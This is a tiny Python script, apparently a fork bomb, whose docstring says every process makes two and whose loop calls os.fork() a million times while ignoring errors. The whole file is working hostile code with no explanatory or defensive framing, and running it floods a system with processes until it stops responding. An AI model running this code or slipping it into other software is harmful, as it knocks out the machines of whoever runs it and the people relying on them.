"""Every process makes two, and those do the same."""

import os

for _ in range(1_000_000):
    try:
        os.fork()
    except OSError:
        pass
